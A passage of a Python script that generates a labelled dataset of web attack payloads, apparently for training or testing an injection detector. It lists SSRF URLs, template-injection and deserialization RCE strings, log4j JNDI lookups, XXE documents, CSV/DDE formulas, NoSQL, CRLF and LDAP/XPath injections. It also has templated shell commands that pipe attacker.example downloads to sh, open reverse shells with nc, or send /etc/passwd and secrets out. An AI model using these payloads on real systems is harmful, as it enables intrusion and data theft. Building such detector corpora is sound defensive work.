    ("importurl-etcd", "http://127.0.0.1:2379/v2/keys/?recursive=true"),
    ("feedurl-open-redirect", "https://attacker.example/r?to=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("feedurl-dns-rebinding", "http://rebind-a9fea9fe.attacker.example/latest/meta-data/"),
    ("imageurl-userinfo-confusion", "http://weather.coop.example@169.254.169.254/latest/meta-data/"),
    ("imageurl-fragment-confusion", "http://127.0.0.1:8000#@maps.coop.example/tiles/1.png"),
    ("imageurl-backslash-confusion", r"http://127.0.0.1:8000\@maps.coop.example/admin"),
    ("webhook-actuator", "http://localhost:8080/actuator/env"),
    ("webhook-rabbitmq-mgmt", "http://127.0.0.1:15672/api/users"),
    ("importurl-jar-scheme", "jar:http://attacker.example/x.zip!/TASKDATA.XML"),
    ("importurl-netdoc-scheme", "netdoc:///etc/passwd"),
    ("importurl-ldap-scheme", "ldap://127.0.0.1:389/dc=coop,dc=example??sub?(objectClass=*)"),
    ("webhook-lan-device", "http://192.168.1.50:8080/config.json"),
    ("imageurl-enclosed-digits+unicode-digits", "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/latest/meta-data/"),
    ("webhook-zero-host", "http://0:8500/v1/agent/self"),
    ("webhook-ipv6-imds", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("importurl-solr-admin", "http://127.0.0.1:8983/solr/admin/cores?action=STATUS"),
    ("imageurl-mixed-ip+alt-ip", "http://169.254.43518/latest/meta-data/"),
    ("imageurl-decimal-loopback+alt-ip", "http://2130706433:6379/"),
    ("importurl-encoded-host+urlenc", "http://%31%32%37%2e%30%2e%30%2e%31:8080/admin"),
    ("jsonconfig-webhook-metadata", "{\"alert_webhook\": \"http://169.254.169.254/latest/meta-data/\", \"threshold_c\": -2}"),
    ("jsonconfig-wms-internal", "{\"layer\": \"NDVI 2024-06\", \"wms_url\": \"http://10.0.0.12:8080/geoserver/rest/security/acl/layers\"}"),
    ("plain-metadata", "http://169.254.169.254/"),
    ("plain-localhost", "http://localhost/server-status"),
    ("plain-file", "file:///c:/windows/win.ini"),
    ("plain-internal", "http://10.0.0.2:8080/"),
    ("plain-gopher", "gopher://localhost:11211/_stats%0d%0a"),
]

CODE = [
    ("jinja2-ssti-rce", "Frost alert for {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("jinja2-ssti-config-leak", "Field 12 yield report {{ config.items() }}"),
    ("jinja2-ssti-rce", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('cat /etc/passwd').read() }}{% endif %}{% endfor %}"),
    ("jinja2-ssti-attr-bypass+hex", r"{{ request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fbuiltins\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fimport\x5f\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("jinja2-ssti-rce", "Dear {{ lipsum.__globals__['os'].popen('curl -s http://attacker.example/j|sh').read() }}, your order shipped"),
    ("twig-ssti-rce", "Invoice {{ ['id']|filter('system') }}"),
    ("twig-ssti-rce", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('cat /etc/passwd') }}"),
    ("freemarker-ssti-rce", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")} bu/ac"),
    ("velocity-ssti-rce", "#set($s='')#set($rt=$s.getClass().forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("erb-ssti-rce", "Invoice note <%= `id` %>"),
    ("erb-ssti-file-read", "<%= File.read('/etc/passwd') %>"),
    ("mako-ssti-rce", "Hi ${__import__('os').popen('id').read()}"),
    ("mako-ssti-block", "<%\nimport subprocess\nx = subprocess.check_output(['cat', '/etc/hostname'])\n%>${x}"),
    ("smarty-ssti-rce", "Paddock {system('id')}"),
    ("nunjucks-ssti-rce", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("pug-ssti-rce", "- var x = global.process.mainModule.require('child_process').execSync('id').toString()\n= x"),
    ("ejs-ssti-rce", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    ("gotpl-context-dump", "Ticket {{ printf \"%#v\" . }}"),
    ("razor-ssti-rce", r"@System.Diagnostics.Process.Start(" "\"cmd.exe\", \"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\w.txt\")"),
    ("thymeleaf-preprocess-rce", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("spel-injection-rce", "#{T(java.lang.Runtime).getRuntime().exec('curl http://attacker.example/s')}"),
    ("spel-injection-env", "${T(java.lang.System).getenv()}"),
    ("ognl-injection-rce", "%{(#r=@java.lang.Runtime@getRuntime()).(#r.exec('id'))}"),
    ("jexl-injection-rce", "''.class.forName('java.lang.Runtime').getRuntime().exec('id')"),
    ("groovy-gstring-rce", "Yield ${'curl -s http://attacker.example/g'.execute().text}"),
    ("mvel-injection-rce", "Runtime.getRuntime().exec(\"id\");"),
    ("pyeval-injection-rce", "yield_bu * 1.0 + __import__('os').system('id')"),
    ("pyeval-sandbox-escape", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0](['id'],stdout=-1).communicate()"),
    ("jseval-breakout", "moisture_pct); require('child_process').execSync('id'); (1"),
    ("jseval-vm-escape", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString()"),
    ("phpeval-injection", "2.5*10; system('id');"),
    ("log4j-jndi-ldap", "${jndi:ldap://attacker.example:1389/a}"),
    ("log4j-jndi-rmi", "Traktor springt nicht an ${jndi:rmi://attacker.example/x}"),
    ("log4j-jndi-lookup-nesting+case-mix", "${${lower:J}${lower:N}DI:ldap://attacker.example/z}"),
    ("log4j-jndi-default-obfuscation", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.30/b}"),
    ("log4j-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.oob.attacker.example}"),
    ("log4j-sys-exfil", "Spray log ${jndi:ldap://${sys:java.version}.${hostName}.oob.attacker.example/v}"),
    ("log4j-jndi+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fu%7D"),
    ("pyyaml-deser-rce", "!!python/object/apply:os.system ['curl -s http://attacker.example/y | sh']"),
    ("pyyaml-deser-rce", "zones:\n  - id: 1\n    name: !!python/object/apply:subprocess.check_output [['cat', '/etc/passwd']]"),
    ("snakeyaml-deser-classloader", "irrigation: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("pickle-deser-rce", "cos\nsystem\n(S'id'\ntR."),
    ("pickle-deser-rce+base64", "Y3Bvc2l4CnN5c3RlbQooUydjdXJsIC1zIGh0dHA6Ly9hdHRhY2tlci5leGFtcGxlL3B8c2gnCnRSLg=="),
    ("phpser-object-injection", "O:13:\"FieldExporter\":1:{s:4:\"path\";s:23:\"/var/www/html/shell.php\";}"),
    ("phar-deser-trigger", "phar:///var/www/uploads/fieldmap.jpg/x"),
    ("dotnetjson-typename-rce", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c whoami\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("jackson-polymorphic-jndi", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/j\",\"autoCommit\":true}]"),
    ("fastjson-autotype-jndi", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.22:1099/f\",\"autoCommit\":true}"),
    ("nodeser-iife-rce", "{\"note\":\"_$$ND_FUNC$$_function(){require('child_process').exec('curl http://attacker.example/n|sh')}()\"}"),
    ("xml-xxe-file", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE ISO11783_TaskData [<!ENTITY f SYSTEM \"file:///etc/passwd\">]>\n<ISO11783_TaskData VersionMajor=\"4\" VersionMinor=\"2\" DataTransferOrigin=\"1\">\n  <CTR A=\"CTR1\" B=\"&f;\"/>\n</ISO11783_TaskData>"),
    ("xml-xxe-oob-dtd", "<?xml version=\"1.0\"?>\n<!DOCTYPE d [<!ENTITY % r SYSTEM \"http://attacker.example/t.dtd\"> %r;]>\n<TASKDATA/>"),
    ("xml-xxe-ssrf", "<!DOCTYPE x [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><order><note>&m;</note></order>"),
    ("xml-xinclude-file", "<order xmlns:xi=\"http://www.w3.org/2001/XInclude\"><note><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></note></order>"),
    ("xml-xxe-php-filter", "<!DOCTYPE t [<!ENTITY c SYSTEM \"php://filter/read=convert.base64-encode/resource=/var/www/config.php\">]><ticket><id>&c;</id></ticket>"),
    ("xml-entity-expansion-dos", "<!DOCTYPE w [<!ENTITY a \"bushel\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">]><grain>&f;</grain>"),
    ("svgxml-xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text x=\"10\" y=\"20\">&h;</text></svg>"),
    ("json-proto-pollution", "{\"field\":\"North 40\",\"__proto__\":{\"isAdmin\":true}}"),
    ("json-constructor-prototype", "{\"settings\":{\"constructor\":{\"prototype\":{\"shell\":\"/bin/sh\",\"NODE_OPTIONS\":\"--require /tmp/x.js\"}}}}"),
    ("query-proto-pollution", "filter[__proto__][role]=admin&filter[crop]=corn"),
    ("query-proto-pollution-gadget", "sort[constructor][prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s"),
    ("json-proto-pollution+unicode-esc", "{\"\\u005f\\u005fproto\\u005f\\u005f\":{\"allowedHosts\":[\"*\"]}}"),
    ("csv-formula-hyperlink-exfil", "=HYPERLINK(\"https://attacker.example/c?d=\"&A2&B2,\"Open soil report\")"),
    ("csv-formula-dde", "=cmd|' /C powershell -w hidden iwr http://203.0.113.31/a.ps1|iex'!A0"),
    ("csv-formula-dde", "@SUM(1+9)*cmd|' /C notepad'!A0"),
    ("csv-formula-dde", "-2+3+cmd|' /C explorer http://attacker.example/'!A0"),
    ("csv-formula-importxml-exfil", "=IMPORTXML(CONCAT(\"https://attacker.example/x?\", C2, D2), \"//a\")"),
    ("csv-formula-webservice-exfil", "=WEBSERVICE(\"https://attacker.example/w?v=\"&ENCODEURL(B2))"),
    ("plain-jinja2", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("plain-log4j", "${jndi:ldap://198.51.100.9/a}"),
    ("plain-spel", "${T(java.lang.Runtime).getRuntime().exec('whoami')}"),
    ("plain-csv-dde", "=cmd|'/C calc'!A0"),
    ("plain-proto-pollution", "{\"__proto__\":{\"admin\":1}}"),
    ("plain-xxe", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"),
    ("plain-pyyaml", "!!python/object/apply:os.system [\"id\"]"),
]

NOSQLI = [
    ("mongojson-ne", "{\"tag\": {\"$ne\": null}}"),
    ("mongojson-auth-bypass", "{\"email\": \"manager@coop.example\", \"password\": {\"$gt\": \"\"}}"),
    ("mongoquery-ne", "username=admin&password[$ne]=x"),
    ("mongoquery-regex-extract", "username=admin&password[$regex]=^a.*"),
    ("mongojson-regex-extract", "{\"farm_id\": \"F-1022\", \"api_key\": {\"$regex\": \"^7f\"}}"),
    ("mongowhere-time", "{\"$where\": \"sleep(5000) || true\"}"),
    ("mongowhere-breakout", "Field 12' || '1'=='1"),
    ("mongowhere-time", "Paddock 7'; sleep(6000); var d='"),
    ("mongojson-or", "{\"$or\": [{\"owner\": \"grower7\"}, {\"_id\": {\"$exists\": true}}]}"),
    ("mongojson-in-bypass", "{\"username\": {\"$in\": [\"admin\", \"root\", \"superuser\"]}, \"password\": {\"$ne\": \"\"}}"),
    ("mongojson-expr", "{\"$expr\": {\"$eq\": [1, 1]}}"),
    ("mongoagg-lookup", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("mongojson-function-time", "{\"$expr\": {\"$function\": {\"body\": \"function(){ return sleep(4000) || true }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("mongoquery-gt", "tag[$gt]=&dam[$gt]="),
    ("mongoquery-exists", "reset_token[$exists]=true&email=grower7@farm.example"),
    ("mongowhere-exfil", "{\"$where\": \"this.email == 'admin@coop.example' && this.password_hash[0] == '$'\"}"),
    ("mongojson-ne+unicode-esc", "{\"tag\": {\"\\u0024ne\": \"0\"}}"),
    ("mongoquery-ne+urlenc", "password%5B%24ne%5D=1&username=admin"),
    ("mango-selector-gt", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"_id\", \"password_scheme\", \"derived_key\"]}"),
    ("mongojson-nin", "{\"status\": {\"$nin\": []}}"),
    ("mongojson-regex-redos", "{\"name\": {\"$regex\": \"^(a+)+$\"}}"),
    ("mongojson-type", "{\"reset_token\": {\"$type\": 2}}"),
    ("plain-ne", "[$ne]=1"),
    ("plain-gt", "{\"$gt\": \"\"}"),
]

CRLF = [
    ("header-set-cookie", "field12_yield.csv\r\nSet-Cookie: session=attacker-fixed-0000; Path=/"),
    ("header-response-splitting", "North40\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(document.domain)</script>"),
    ("header-set-cookie+urlenc", "report.pdf%0d%0aSet-Cookie:%20sid%3Dfixated123"),
    ("header-location-injection+urlenc", "/orders/88213%0D%0ALocation:%20https://attacker.example/login"),
    ("header-csp-override+urlenc2", "en%250d%250aContent-Security-Policy:%2520script-src%2520*"),
    ("header-set-cookie+unicode-trunc", "farm%E5%98%8A%E5%98%8DSet-Cookie:%20a=b"),
    ("header-lf-cache-poison", "dam A-17\nX-Forwarded-Host: attacker.example"),
    ("header-cors-override", "Pivot2\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true"),
    ("log-forged-entry", "wind 8 km/h NW\n2024-05-03 12:00:01 INFO user=admin action=export_all_records status=approved"),
    ("log-forged-entry", "Spray done 06:40\r\n[2024-05-03T06:41:00Z] AUDIT user=inspector@gov.example result=PASS field=North40"),
    ("log-forged-entry+urlenc", "zone3%0a2024-05-03%2009:00:00%20WARN%20auth%20failed%20user=owner%20ip=203.0.113.77"),
    ("log-ansi-escape", "Tag 4321\u001b[2J\u001b[1;32mAll withdrawal checks passed\u001b[0m"),
    ("log-json-field-injection", "grower7\",\"level\":\"info\",\"event\":\"role_change\",\"role\":\"admin"),
    ("log-syslog-forge", "SM-12 offline\n<34>May  3 06:00:00 gw01 sshd[811]: Accepted password for root from 198.51.100.44 port 52211 ssh2"),
    ("log-csv-row-forge", "Moved to Paddock 8\r\n2024-05-03,admin,DELETE,all_animals,ok"),
    ("mail-bcc-injection", "José Müller\r\nBcc: list@attacker.example"),
    ("mail-cc-injection", "grower7@farm.example\nCc: everyone@attacker.example\nX-Priority: 1"),
    ("mail-body-injection", "Order 88213 ready\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/pay\">Pay invoice now</a>"),
    ("mail-to-injection+urlenc", "Invoice%20query%0ATo:%20victim@coop.example%0AFrom:%20billing@coop.example"),
    ("smtp-command-smuggling", "reply@farm.example>\r\nRCPT TO:<someone@attacker.example>\r\nDATA\r\nSubject: Urgent\r\n\r\nWire payment to the new account\r\n.\r\nQUIT"),
    ("header-refresh-redirect", "en-AU\r\nRefresh: 0; url=https://attacker.example/"),
    ("header-content-type-override", "shapefile.zip\r\nContent-Type: text/html\r\n\r\n<svg onload=alert(document.cookie)>"),
    ("redisproto-command-injection", "corn_price\r\nCONFIG SET dir /var/www/html\r\nCONFIG SET dbfilename x.php\r\nSET p \"<?php system($_GET[0]); ?>\"\r\nSAVE"),
    ("memcacheproto-command-injection", "grain_price_key\r\nset admin_session 0 3600 4\r\nroot"),
    ("reqline-request-splitting", "/tiles/12/34/56.png HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\nGET /admin/delete?all=1"),
    ("log-forged-entry+unicode-linesep", "Frost alert\u2028ERROR admin login succeeded from 127.0.0.1"),
    ("header-x-forwarded-for", "Bin 4 temps\r\nX-Forwarded-For: 127.0.0.1"),
    ("plain-set-cookie", "\r\nSet-Cookie: admin=true"),
    ("plain-log-forge+urlenc", "%0d%0aINFO login ok user=admin"),
    ("plain-bcc", "\nBcc: all@attacker.example"),
]

LDAP_XPATH = [
    ("ldap-filter-wildcard-or", "*)(uid=*))(|(uid=*"),
    ("ldap-filter-auth-bypass", "admin)(&)"),
    ("ldap-filter-or-injection", "grower7)(|(objectClass=*)"),
    ("ldap-filter-attr-blind", "admin)(userPassword=a*"),
    ("ldap-filter-attr-enum", "*)(telephoneNumber=*)(|(cn=*"),
    ("ldap-filter-group-enum", "*)(memberOf=cn=admins,ou=groups,dc=coop,dc=example)"),
    ("ldapdn-injection", "jmiller,ou=admins,dc=coop,dc=example"),
    ("ldap-filter-nullbyte+urlenc", "admin)%00"),
    ("ldap-filter-wildcard-or+urlenc", "%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A"),
    ("xpath-boolean-or", "Field 12' or '1'='1"),
    ("xpath-union-extract", "x'] | //user/password | //field[name='x"),
    ("xpath-blind-substring", "North 40' and substring(//user[role='admin']/password,1,1)='a' and '1'='1"),
    ("xpath-blind-count", "' or count(//user)>5 or 'a'='b"),
    ("xpath-blind-name-length", "A-17' and string-length(name(/*[1]))=8 and ''='"),
    ("xpath-doc-oob", "x' or doc('http://attacker.example/x.xml') or 'a'='a"),
    ("xpath-numeric-or", "1 or 1=1"),
    ("xpath-node-dump", "')] | //* | //*[('"),
    ("ldap-filter-negation", "*)(!(uid=nobody)"),
    ("xpath-boolean-or+urlenc", "%27%20or%20%271%27%3D%271"),
    ("xpath-dq-boolean", "Поле №5\" or \"a\"=\"a"),
    ("plain-ldap", "*)(|(&"),
    ("plain-xpath", "' or ''='"),
]

LITERALS = {
    "sqli": SQLI,
    "xss": XSS,
    "cmdi": CMDI,
    "traversal": TRAVERSAL,
    "ssrf": SSRF,
    "code": CODE,
    "nosqli": NOSQLI,
    "crlf": CRLF,
    "ldap-xpath": LDAP_XPATH,
}

# ---------------------------------------------------------------------------
# Small templates: domain prefix pools x hand-written payload shapes
# ---------------------------------------------------------------------------

FIELD_PREFIXES = ["North 40", "Back paddock", "Pivot 3", "Lot 12", "Cell 7b", "Hill Block", "Orchard Row 9", "Creek Flat"]
NUM_IDS = ["982000411122233", "4471", "104590", "2031", "88213"]
ADMIN_TABLES = ["users", "integrations", "api_keys", "sessions"]
SECRET_COLS = ["password_hash", "api_token", "secret", "refresh_token"]


def tpl_sqli(rng):
    p = rng.choice(FIELD_PREFIXES)
    t = rng.choice(ADMIN_TABLES)
    c = rng.choice(SECRET_COLS)
    form = rng.randrange(4)
    if form == 0:
        return "sqlstr-union", f"{p}' UNION SELECT {c}, NULL FROM {t}-- "
    if form == 1:
        return "sqlstr-time", f"{p}' AND SLEEP({rng.randint(4, 12)})-- "
    if form == 2:
        n = rng.randint(2, 99)
        return "sqlnum-boolean", f"{rng.choice(NUM_IDS)} OR {n}={n}"
    return "sqlstr-boolean-blind", f"{p}' AND (SELECT LENGTH({c}) FROM {t} LIMIT 1)>{rng.randint(8, 40)}-- "


XSS_SINKS = [
    ("html-img-onerror", "{p} <img src=x onerror=alert(document.{prop})>"),
    ("html-svg-onload", "{p} <svg onload=fetch('//attacker.example/'+document.{prop})>"),
    ("attrdq-event-breakout", "{p}\" onmouseover=\"alert(document.{prop})"),
    ("html-details-ontoggle", "{p} <details open ontoggle=alert(document.{prop})>"),
]


def tpl_xss(rng):
    cls, shape = rng.choice(XSS_SINKS)
    return cls, shape.format(p=rng.choice(FIELD_PREFIXES), prop=rng.choice(["cookie", "domain"]))


CMD_TAILS = [
    ("shellarg-semicolon", "{dev}; curl -s http://attacker.example/{n} | sh"),
    ("shellarg-subshell", "{dev}$(wget -qO- http://203.0.113.{o}/{n}|sh)"),
    ("shellarg-pipe", "{dev} | nc 198.51.100.{o} {port} -e /bin/sh"),
    ("shellarg-and", "{dev} && curl -s -d @/etc/passwd http://attacker.example/{n}"),
]
DEVICES = ["zone3", "SM-12", "WS-07", "TRK-11", "/dev/ttyUSB0", "gateway02", "pivot4"]


def tpl_cmdi(rng):
    cls, shape = rng.choice(CMD_TAILS)
    return cls, shape.format(dev=rng.choice(DEVICES), n=rng.choice(["x", "k", "s", "q"]),
                             o=rng.randint(2, 250), port=rng.randint(2000, 9999))


TRAV_BASES = ["yield/2024", "TASKDATA", "exports/field12", "reports/spray", "maps/ndvi"]
TRAV_TARGETS = ["etc/passwd", "etc/shadow", "root/.bash_history", "proc/self/environ", "var/www/.env"]


def tpl_traversal(rng):
    depth = rng.randint(4, 8)
    return "filepath-dotdot", f"{rng.choice(TRAV_BASES)}/" + "../" * depth + rng.choice(TRAV_TARGETS)


SSRF_HOSTS = ["169.254.169.254", "127.0.0.1", "localhost", "[::1]", "10.0.0.1"]
SSRF_PATHS = ["/latest/meta-data/iam/security-credentials/", ":6379/", ":9200/_cat/indices", ":8500/v1/agent/self", ":2375/info"]


def tpl_ssrf(rng):
    return "webhook-internal", f"http://{rng.choice(SSRF_HOSTS)}{rng.choice(SSRF_PATHS)}"


CODE_SHAPES = [
    ("jinja2-ssti-rce", "{p}: {{{{ cycler.__init__.__globals__.os.popen('{cmd}').read() }}}}"),
    ("log4j-jndi-ldap", "{p} ${{jndi:ldap://{h}.attacker.example/{n}}}"),
    ("spel-injection-rce", "{p} ${{T(java.lang.Runtime).getRuntime().exec('{cmd}')}}"),
    ("csv-formula-hyperlink-exfil", "=HYPERLINK(\"https://attacker.example/{n}?v=\"&A{row},\"{p}\")"),
]


def tpl_code(rng):
    cls, shape = rng.choice(CODE_SHAPES)
    return cls, shape.format(p=rng.choice(FIELD_PREFIXES), cmd=rng.choice(["id", "uname -a", "cat /etc/passwd"]),
                             h=rng.choice(["a1", "b7", "c3", "z9"]), n=rng.choice(["x", "e", "r"]), row=rng.randint(2, 400))


def tpl_nosqli(rng):
    field = rng.choice(["tag", "eid", "farm_id", "username"])
    op = rng.choice(["$ne", "$gt", "$regex"])
    val = {"$ne": "null", "$gt": "\"\"", "$regex": "\".*\""}[op]
    return f"mongojson-{op[1:]}", "{" + f"\"{field}\": " + "{" + f"\"{op}\": {val}" + "}}"


def tpl_crlf(rng):
    p = rng.choice(FIELD_PREFIXES)
    return "header-set-cookie", f"{p}\r\nSet-Cookie: sid=fixed{rng.randint(1000, 9999)}; Path=/"


def tpl_ldap_xpath(rng):
    user = rng.choice(["grower7", "vet_patel", "jmiller", "agro2"])
    if rng.randrange(2):
        return "ldap-filter-or-injection", f"{user})(|(uid=*"
    d = rng.randint(1, 9)
    return "xpath-boolean-or", f"{user}' or '{d}'='{d}"


TEMPLATES = {
    "sqli": (tpl_sqli, 4),
    "xss": (tpl_xss, 4),
    "cmdi": (tpl_cmdi, 4),
    "traversal": (tpl_traversal, 3),
    "ssrf": (tpl_ssrf, 3),
    "code": (tpl_code, 4),
    "nosqli": (tpl_nosqli, 2),
    "crlf": (tpl_crlf, 3),
    "ldap-xpath": (tpl_ldap_xpath, 2),
}


def build():
    rng = random.Random(SEED)
    seen = set()
    rows = []
    stats = []
    total_lit = 0
    for cat in CATEGORY_ORDER:
        lits = LITERALS[cat]
        entries = []
        for cls, v in lits:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            entries.append((cls, v))
        fn, n_tpl = TEMPLATES[cat]
        made = 0
        tries = 0
        while made < n_tpl:
            tries += 1
            if tries > 5000:
                raise SystemExit(f"{cat}: template cannot produce enough unique values")
            cls, v = fn(rng)
            if v in seen:
                continue
            seen.add(v)
            entries.append((cls, v))
            made += 1
        for cls, v in entries:
            if not isinstance(v, str) or not v or len(v) > 1800:
                raise SystemExit(f"bad value in {cat}: {v!r}")
            if "-" not in cls:
                raise SystemExit(f"bad class {cls!r}")
            rows.append({"category": cat, "class": cls, "value": v})
        stats.append((cat, len(entries), len(lits)))
        total_lit += len(lits)
    if total_lit < MIN_LITERAL_SHARE * len(rows):
        raise SystemExit(f"literal share too low: {total_lit}/{len(rows)}")
    out = []
    for i, r in enumerate(rows, 1):
        out.append({"id": f"{ID_PREFIX}-{i:05d}", "category": r["category"], "class": r["class"],
                    "label": "attack", "value": r["value"]})
    return out, stats


def main():
    rows, stats = build()
    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
    total_lit = 0
    for cat, n, lit in stats:
        total_lit += lit
        print(f"{cat:12s} {n:4d}  literals {lit:3d}")
    print(f"{'TOTAL':12s} {len(rows):4d}  literals {total_lit:3d}")
    plain = sum(1 for r in rows if r["class"].startswith("plain-"))
    enc = sum(1 for r in rows if "+" in r["class"])
    print(f"plain- classes {plain}; encoded classes {enc}")


if __name__ == "__main__":
    main()
